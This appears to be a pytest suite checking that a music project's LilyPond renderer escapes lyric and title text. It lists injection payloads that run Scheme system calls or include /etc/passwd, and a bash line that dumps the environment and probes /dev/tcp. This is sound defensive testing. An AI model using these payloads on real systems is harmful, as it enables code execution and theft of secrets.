"""No text of a song ever becomes a command: LilyPond's input is a program."""

import re
import shutil
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from musicdata.errors import RenderError
from musicdata.music.render import lilypond, score
from musicdata.music.render.lilypond import Page, PageNote, Picture
from musicdata.music.render.score import quote
from musicdata.system import processes

STRING = re.compile(r'"(?:[^"\\]|\\["\\])*"')  # a LilyPond string that holds no escape but \" and \\
HOSTILE = [
    '" } } #(with-output-to-file "{canary}" (lambda () (display "x"))) "',
    '" #(system "/usr/bin/touch {canary}") "',
    '\\" #(system "/usr/bin/touch {canary}") "',
    '\\\\" #(system "/usr/bin/touch {canary}") "',
    '" \\include "/etc/passwd" #(system "/usr/bin/touch {canary}") "',
    '"\n#(system "/usr/bin/touch {canary}")\n"',
    '" %{{ %}} #(system "/usr/bin/touch {canary}") "',
    '#(system "/usr/bin/touch {canary}")',
    '$(system "/usr/bin/touch {canary}")',
    '#{{ #(system "/usr/bin/touch {canary}") #}}',
    '" -- "$(system "/usr/bin/touch {canary}")',
]


def fill(text: str, canary: Path) -> str:
    return text.replace("{canary}", str(canary)).replace("{{", "{").replace("}}", "}")


def run(text: str, folder: Path) -> processes.Finished:
    (folder / "naive.ly").write_text(text, encoding="utf-8")
    reads = [lilypond.program().parents[1], Path("/proc")]
    return processes.run([str(lilypond.program()), "naive.ly"], cwd=folder, deadline_s=60, reads=reads)


def test_canary_sings_when_a_syllable_is_not_escaped(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    written = score.write(Page("p", [PageNote(60, 1, syllable="MARK")]))
    safe = score.source([written], boxes=False).text
    assert '"MARK"' in safe
    for attack in HOSTILE[:2]:
        finished = run(safe.replace("MARK", fill(attack, canary)), tmp_path)
        assert canary.is_file(), finished.stderr
        canary.unlink()


def test_canary_sings_when_a_title_is_not_escaped(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    title = f'"  }} #(system "/usr/bin/touch {canary}") \\header {{ x = "'
    run(f'\\version "2.24.3" \\header {{ title = "{title}" }} {{ c\'4 }}', tmp_path)
    assert canary.is_file()
    canary.unlink()
    run(f'\\version "2.24.3" \\header {{ title = {quote(title)} }} {{ c\'4 }}', tmp_path)
    assert not canary.exists()


def test_canary_is_silent_through_render(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    texts = [fill(attack, canary)[:200] for attack in HOSTILE]
    pages = [Page(text, [PageNote(60, 1, syllable=text), PageNote(62, 1, syllable="la")]) for text in texts]
    results = lilypond.render(pages, scratch=tmp_path)
    assert [result.name for result in results if isinstance(result, Picture)] == texts
    assert not canary.exists()
    assert not list(tmp_path.iterdir())


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=80))
@example('\\"')
@example("\\")
@example('"')
@example("\ud800")
@example("a\x1bb")
@example("\u2028#(exit)\u2029")
def test_no_text_leaves_its_quotes(text: str) -> None:
    try:
        quoted = quote(text)
    except RenderError:
        assert not text.strip() or len(text) > 200 or any(not one.isprintable() for one in text)
        return
    assert STRING.fullmatch(quoted)
    assert len(quoted.splitlines()) == 1
    meant = " ".join(unicodedata.normalize("NFC", text).split())
    assert re.sub(r'\\(["\\])', r"\1", quoted[1:-1]) == meant


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=30), st.booleans()), min_size=1, max_size=5), st.text(max_size=30))
def test_page_outside_its_strings_is_the_same_whatever_is_sung(sung: list[tuple[str, bool]], name: str) -> None:
    notes = [PageNote(60, 1, syllable=text, hyphen=hyphen) for text, hyphen in sung]
    plain = [PageNote(60, 1, syllable="la", hyphen=hyphen) for _, hyphen in sung]
    try:
        hostile = score.write(Page(name, notes))
    except RenderError:
        return
    sources = [score.source([one], boxes=True).text for one in (hostile, score.write(Page("x", plain)))]
    outside = [STRING.sub('""', source) for source in sources]
    assert outside[0] == outside[1]


def test_random_texts_of_what_the_language_is_made_of(tmp_path: Path) -> None:
    """Draws hostile syllables for real: each comes out as one syllable, and LilyPond has nothing to say."""
    pieces = [
        "\\",
        '"',
        "#",
        "$",
        "%",
        "%{",
        "%}",
        "{",
        "}",
        "<<",
        ">>",
        "\\\\",
        '\\"',
        "~",
        "_",
        "--",
        "__",
        "'",
    ]
    texts = [a + b + c for a in pieces for b in pieces for c in ('"', "\\", "#f")]
    pages = [Page(str(i), [PageNote(60, 1, syllable=t) for t in texts[i : i + 54]]) for i in range(0, len(texts), 54)]
    for result in lilypond.render(pages, scratch=tmp_path):
        assert isinstance(result, Picture), result
        assert len(result.syllables) == 54


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs unshare")
def test_command_that_did_run_would_find_no_network_and_no_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MUSIXMATCH_API_KEY", "canary-key")
    inner = f"/usr/bin/env >{tmp_path}/seen; (echo x >/dev/tcp/192.0.2.1/80) 2>>{tmp_path}/seen"
    run(f"#(system \"/bin/bash -c '{inner}'\")", tmp_path)
    seen = (tmp_path / "seen").read_text()
    assert "canary-key" not in seen
    assert "HOME=" in seen
    if processes.isolation(lilypond.program())["own_network_and_user"]:
        assert "unreachable" in seen
